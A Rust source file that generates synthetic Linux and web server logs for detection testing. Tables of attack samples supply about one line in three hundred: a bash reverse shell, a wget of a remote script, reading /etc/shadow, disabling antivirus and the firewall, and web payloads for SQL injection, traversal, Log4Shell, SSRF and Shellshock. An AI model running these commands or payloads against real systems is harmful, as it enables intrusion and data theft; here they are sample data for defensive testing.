//! Log lines for lanes that no recording covers: Linux hosts and web servers, from a seeded generator with realistic distributions.
//! A few values are very frequent, most are rare, identifiers never repeat, and about one line in three hundred belongs to an attack.

use serde_json::{Value, json};

/// A small deterministic generator (`SplitMix64`), so that every run sees the same lines.
pub struct Dice(u64);

impl Dice {
    pub fn new(seed: u64) -> Self {
        Dice(seed)
    }

    pub fn roll(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut word = self.0;
        word = (word ^ (word >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        word = (word ^ (word >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        word ^ (word >> 31)
    }

    pub fn below(&mut self, limit: u64) -> u64 {
        self.roll() % limit
    }

    fn one_in(&mut self, limit: u64) -> bool {
        self.below(limit) == 0
    }

    /// Picks by Zipf's law: the n-th choice is n times rarer than the first.
    fn pick<'a>(&mut self, choices: &[&'a str]) -> &'a str {
        let total: f64 = (1..=choices.len()).map(|rank| 1.0 / rank as f64).sum();
        let mut left = (self.roll() as f64 / u64::MAX as f64) * total;
        for (rank, choice) in choices.iter().enumerate() {
            left -= 1.0 / (rank + 1) as f64;
            if left <= 0.0 {
                return choice;
            }
        }
        choices[choices.len() - 1]
    }

    /// Fills `{n}` with a number, `{h}` with hex digits, `{w}` with a word and `{u}` with a user.
    fn fill(&mut self, pattern: &str) -> String {
        let mut filled = String::new();
        let mut rest = pattern;
        while let Some(at) = rest.find('{') {
            filled.push_str(&rest[..at]);
            match rest.as_bytes().get(at + 1) {
                Some(b'n') => filled.push_str(&self.below(99_999).to_string()),
                Some(b'h') => filled.push_str(&format!("{:012x}", self.roll() >> 16)),
                Some(b'w') => filled.push_str(self.pick(WORDS)),
                Some(b'u') => filled.push_str(self.pick(USERS)),
                _ => filled.push('{'),
            }
            let end = rest[at..].find('}').map_or(at + 1, |end| at + end + 1);
            rest = &rest[end..];
        }
        filled + rest
    }
}

const WORDS: &[&str] = &[
    "report", "backup", "data", "index", "config", "invoice", "session", "cache", "update", "monitor", "queue",
    "archive", "users", "orders", "metrics", "daily", "images", "export", "release", "notes", "upload", "search",
    "profile", "billing", "mirror",
];
const USERS: &[&str] = &[
    "root",
    "www-data",
    "deploy",
    "postgres",
    "an.nguyen",
    "binh.tran",
    "jenkins",
    "monitor",
    "chi.le",
    "backup",
];
const HOSTS: &[&str] = &[
    "web-01", "web-02", "db-01", "app-01", "app-02", "mail-01", "ci-01", "bastion", "files-01", "dns-01",
];

/// Image, command line, parent image, parent command line.
const COMMANDS: &[(&str, &str, &str, &str)] = &[
    (
        "/usr/bin/sed",
        "sed -n s/^{w}=//p /opt/{w}/{w}.conf",
        "/usr/bin/bash",
        "bash /opt/{w}/run.sh",
    ),
    (
        "/usr/bin/grep",
        "grep -c ^processor /proc/cpuinfo",
        "/usr/bin/dash",
        "sh -c /usr/lib/{w}/check --id {n}",
    ),
    (
        "/usr/sbin/sshd",
        "sshd: {u} [priv]",
        "/usr/sbin/sshd",
        "/usr/sbin/sshd -D",
    ),
    ("/usr/bin/cat", "cat /var/lib/{w}/{h}.state", "/usr/bin/bash", "-bash"),
    (
        "/usr/bin/python3.11",
        "/usr/bin/python3 /opt/{w}/agent.py --interval {n}",
        "/usr/lib/systemd/systemd",
        "/sbin/init",
    ),
    ("/usr/bin/ls", "ls -la /srv/{w}/{w}-{n}", "/usr/bin/bash", "-bash"),
    (
        "/usr/bin/git",
        "git fetch --depth 1 origin refs/heads/{w}-{n}",
        "/usr/bin/java",
        "java -jar /opt/jenkins/jenkins.war",
    ),
    (
        "/usr/bin/find",
        "find /var/log/{w} -name *.gz -mtime +{n} -delete",
        "/usr/sbin/cron",
        "/usr/sbin/CRON -f",
    ),
    (
        "/usr/bin/systemctl",
        "systemctl is-active {w}.service",
        "/usr/bin/bash",
        "bash /usr/local/bin/health.sh {n}",
    ),
    (
        "/usr/bin/curl",
        "curl -fsS http://127.0.0.1:{n}/healthz",
        "/usr/bin/dash",
        "/bin/sh -c curl -fsS http://127.0.0.1/healthz",
    ),
    (
        "/usr/bin/rsync",
        "rsync -a --delete /srv/{w}/ backup@files-01:/{w}/{h}",
        "/usr/sbin/cron",
        "/usr/sbin/CRON -f",
    ),
    (
        "/usr/bin/node",
        "node /srv/{w}/server.js --port {n}",
        "/usr/lib/systemd/systemd",
        "/sbin/init",
    ),
    (
        "/usr/bin/docker",
        "docker exec {h} pg_isready -U {u}",
        "/usr/bin/containerd-shim",
        "containerd-shim -id {h}",
    ),
    (
        "/usr/bin/psql",
        "psql -At -c select count(*) from {w}",
        "/usr/bin/bash",
        "bash /opt/{w}/stats.sh",
    ),
    (
        "/usr/bin/tar",
        "tar -czf /backup/{w}-{n}.tar.gz /srv/{w}",
        "/usr/bin/bash",
        "bash /usr/local/bin/backup.sh",
    ),
    ("/usr/bin/vim.basic", "vim /etc/{w}/{w}.yml", "/usr/bin/bash", "-bash"),
    (
        "/usr/bin/apt-get",
        "apt-get install -y {w}",
        "/usr/bin/sudo",
        "sudo apt-get install -y {w}",
    ),
    ("/usr/bin/ssh", "ssh {u}@{w}.internal uptime", "/usr/bin/bash", "-bash"),
];
const ATTACK_COMMANDS: &[(&str, &str, &str, &str)] = &[
    (
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1",
        "/usr/sbin/apache2",
        "/usr/sbin/apache2 -k start",
    ),
    (
        "/usr/bin/base64",
        "base64 -d /tmp/{h}",
        "/usr/bin/bash",
        "bash -c echo aGVsbG8= | base64 -d | bash",
    ),
    ("/usr/bin/crontab", "crontab -l", "/usr/bin/bash", "-bash"),
    (
        "/usr/bin/nohup",
        "nohup /tmp/.{h} &",
        "/usr/bin/dash",
        "sh -c /tmp/.{h}",
    ),
    (
        "/usr/bin/wget",
        "wget http://198.51.100.7/{h}.sh -O /tmp/x.sh",
        "/usr/bin/perl",
        "perl /var/www/cgi-bin/{w}.cgi",
    ),
    (
        "/usr/bin/chattr",
        "chattr -i /etc/ld.so.preload",
        "/usr/bin/bash",
        "bash /tmp/{h}",
    ),
    ("/usr/bin/cat", "cat /etc/shadow", "/usr/bin/bash", "-bash"),
    ("/usr/bin/pkill", "pkill -9 clamd", "/usr/bin/bash", "bash /dev/shm/{h}"),
    ("/usr/sbin/iptables", "iptables -F", "/usr/bin/bash", "bash /tmp/{h}.sh"),
];

/// Makes lines of Linux hosts: Sysmon for Linux process creations, auditd records and sshd messages, with the log source of each.
pub fn linux(count: usize) -> Vec<(String, [&'static str; 3])> {
    let mut dice = Dice::new(0x11_4e_75);
    (0..count)
        .map(|number| {
            let host = dice.pick(HOSTS);
            let time = format!(
                "2026-03-{:02}T{:02}:{:02}:{:02}.{:03}Z",
                1 + number / 2_000 % 28,
                dice.below(24),
                dice.below(60),
                dice.below(60),
                dice.below(1_000)
            );
            match dice.below(10) {
                0..5 => (
                    process_creation(&mut dice, host, &time).to_string(),
                    ["process_creation", "linux", "sysmon"],
                ),
                5..9 => (
                    audit_record(&mut dice, host, &time).to_string(),
                    ["", "linux", "auditd"],
                ),
                _ => (sshd_message(&mut dice, host, &time).to_string(), ["", "linux", "sshd"]),
            }
        })
        .collect()
}

fn process_creation(dice: &mut Dice, host: &str, time: &str) -> Value {
    let table = if dice.one_in(300) { ATTACK_COMMANDS } else { COMMANDS };
    let ranks: Vec<String> = (0..table.len()).map(|rank| rank.to_string()).collect();
    let ranks: Vec<&str> = ranks.iter().map(String::as_str).collect();
    let (image, command, parent, parent_command) = table[dice.pick(&ranks).parse::<usize>().unwrap_or(0)];
    json!({
        "EventID": 1, "Computer": host, "UtcTime": time, "ProcessGuid": dice.fill("{{h}-{h}}"), "ProcessId": dice.below(4_000_000),
        "Image": image, "CommandLine": dice.fill(command), "CurrentDirectory": dice.fill("/srv/{w}/"), "User": dice.pick(USERS),
        "LogonGuid": dice.fill("{{h}}"), "LogonId": dice.below(100_000), "TerminalSessionId": dice.below(5_000), "IntegrityLevel": "no level",
        "Hashes": dice.fill("SHA256={h}{h}{h}"), "ParentProcessId": dice.below(4_000_000), "ParentImage": parent,
        "ParentCommandLine": dice.fill(parent_command), "ParentUser": dice.pick(USERS), "Channel": "Linux-Sysmon/Operational",
    })
}

fn audit_record(dice: &mut Dice, host: &str, time: &str) -> Value {
    let is_attack = dice.one_in(300);
    let table = if is_attack { ATTACK_COMMANDS } else { COMMANDS };
    let (image, command, _, _) = table[dice.below(table.len() as u64) as usize];
    let command = dice.fill(command);
    let id = dice.fill("{n}.{n}:{n}");
    match dice.below(4) {
        0 => {
            let mut record = json!({"type": "EXECVE", "host": host, "@timestamp": time, "msg": id, "argc": command.split(' ').count()});
            for (at, argument) in command.split(' ').enumerate() {
                record[format!("a{at}")] = json!(argument);
            }
            record
        }
        1 => json!({
            "type": "PATH", "host": host, "@timestamp": time, "msg": id, "item": dice.below(3), "inode": dice.below(9_000_000),
            "name": if is_attack { "/etc/ld.so.preload".to_owned() } else { dice.fill("/srv/{w}/{w}-{n}.dat") },
            "dev": "08:01", "mode": "0100644", "ouid": 0, "ogid": 0, "rdev": "00:00", "nametype": "NORMAL", "cap_fp": "0",
        }),
        _ => json!({
            "type": "SYSCALL", "host": host, "@timestamp": time, "msg": id, "arch": "c000003e", "syscall": dice.pick(&["execve", "openat", "connect", "unlink", "chmod", "ptrace"]),
            "success": "yes", "exit": dice.below(10), "a0": dice.fill("{h}"), "a1": dice.fill("{h}"), "a2": dice.fill("{h}"), "a3": "0",
            "items": 2, "ppid": dice.below(4_000_000), "pid": dice.below(4_000_000), "auid": dice.below(2_000), "uid": dice.below(2_000), "gid": 0, "euid": 0,
            "tty": dice.pick(&["(none)", "pts0", "pts1"]), "ses": dice.below(5_000), "comm": image.rsplit('/').next(), "exe": image,
            "key": dice.pick(&["(null)", "exec", "rootcmd", "identity"]),
        }),
    }
}

fn sshd_message(dice: &mut Dice, host: &str, time: &str) -> Value {
    let pattern = if dice.one_in(300) {
        "error: buffer_get_string_ret: bad string length {n}"
    } else {
        dice.pick(&[
            "Accepted publickey for {u} from 10.1.2.3 port {n} ssh2: ED25519 SHA256:{h}{h}",
            "pam_unix(sshd:session): session opened for user {u} by (uid=0)",
            "Received disconnect from 10.1.2.3 port {n}:11: disconnected by user",
            "Failed password for invalid user {w} from 198.51.100.23 port {n} ssh2",
            "Connection closed by authenticating user {u} 198.51.100.23 port {n} [preauth]",
        ])
    };
    json!({
        "@timestamp": time, "host": host, "program": "sshd", "pid": dice.below(99_999), "facility": "auth", "severity": "info",
        "message": dice.fill(pattern),
    })
}

const PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/static/app.{h}.js",
    "/static/site.css",
    "/api/v1/{w}/{n}",
    "/images/{w}-{n}.jpg",
    "/login",
    "/search",
    "/favicon.ico",
    "/api/v1/{w}",
    "/products/{w}/{n}",
    "/news/2026/{w}-{w}-{n}",
    "/wp-content/themes/{w}/style.css",
    "/robots.txt",
    "/download/{w}-{n}.pdf",
    "/cart",
    "/user/{u}/profile",
    "/feed.xml",
];
const QUERIES: &[&str] = &[
    "-",
    "v={n}",
    "q={w}+{w}",
    "page={n}&sort={w}",
    "utm_source={w}&utm_campaign={w}-{n}",
    "id={n}",
    "lang=vi",
    "token={h}{h}",
];
const ATTACK_QUERIES: &[&str] = &[
    "id=1' UNION SELECT username,password FROM users--",
    "file=../../../../etc/passwd",
    "q=<script>alert({n})</script>",
    "x=${jndi:ldap://203.0.113.9/{h}}",
    "cmd=whoami",
    "page=php://filter/convert.base64-encode/resource=index",
    "name={{7*7}}",
    "redirect=http://169.254.169.254/latest/meta-data/",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "okhttp/4.12.0",
    "curl/8.5.0",
    "Prometheus/2.49.1",
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
];
const ATTACK_AGENTS: &[&str] = &[
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "Nikto/2.5.0",
    "Mozilla/5.0 zgrab/0.x",
    "() { :; }; /bin/bash -c id",
];
const SITES: &[&str] = &[
    "www.example.vn",
    "cdn.example.net",
    "api.github.com",
    "update.example.com",
    "mail.example.vn",
    "maps.example.org",
    "raw.githubusercontent.com",
    "teams.example.com",
];

/// Makes lines of web servers and proxies, with the log source of each.
pub fn web(count: usize) -> Vec<(String, [&'static str; 3])> {
    let mut dice = Dice::new(0x0b_eb_77);
    (0..count)
        .map(|number| {
            let is_attack = dice.one_in(300);
            let path = dice.pick(PATHS);
            let path = if is_attack && dice.one_in(3) { "/cgi-bin/.%2e/%2e%2e/bin/sh".to_owned() } else { dice.fill(path) };
            let query = if is_attack { dice.pick(ATTACK_QUERIES) } else { dice.pick(QUERIES) };
            let query = dice.fill(query);
            let agent = if is_attack && dice.one_in(2) { dice.pick(ATTACK_AGENTS) } else { dice.pick(AGENTS) };
            let client = format!("{}.{}.{}.{}", 1 + dice.below(222), dice.below(256), dice.below(256), dice.below(256));
            let method = dice.pick(&["GET", "POST", "HEAD", "PUT"]);
            let status: u64 = dice.pick(&["200", "304", "404", "302", "500", "403"]).parse().unwrap_or(200);
            let date = format!("2026-03-{:02}", 1 + number / 2_000 % 28);
            let time = format!("{:02}:{:02}:{:02}", dice.below(24), dice.below(60), dice.below(60));
            let uri = if query == "-" { path.clone() } else { format!("{path}?{query}") };
            // Crawlers visit servers; they do not come through an organisation's proxy.
            if !agent.contains("bot.h") && dice.one_in(3) {
                let host = dice.pick(SITES);
                let line = json!({
                    "date": date, "time": time, "c-ip": client, "cs-username": dice.pick(USERS), "cs-method": method, "cs-host": host, "r-dns": host,
                    "c-uri": format!("http://{host}{uri}"), "c-uri-extension": path.rsplit('.').next(), "c-uri-query": query, "c-useragent": agent,
                    "sc-status": status, "sc-bytes": dice.below(900_000), "cs-bytes": dice.below(9_000), "time-taken": dice.below(3_000),
                });
                return (line.to_string(), ["proxy", "squid", "access"]);
            }
            let line = json!({
                "date": date, "time": time, "s-ip": "10.0.0.5", "cs-method": method, "cs-uri-stem": path, "cs-uri-query": query, "c-uri": uri,
                "s-port": 443, "cs-username": "-", "c-ip": client, "cs-version": "HTTP/1.1", "cs-user-agent": agent,
                "cs-referer": dice.fill("https://www.example.vn/{w}/{n}"), "cs-host": "www.example.vn", "sc-status": status, "sc-bytes": dice.below(900_000),
                "time-taken": dice.below(3_000),
            });
            (line.to_string(), ["webserver", "", "nginx"])
        })
        .collect()
}
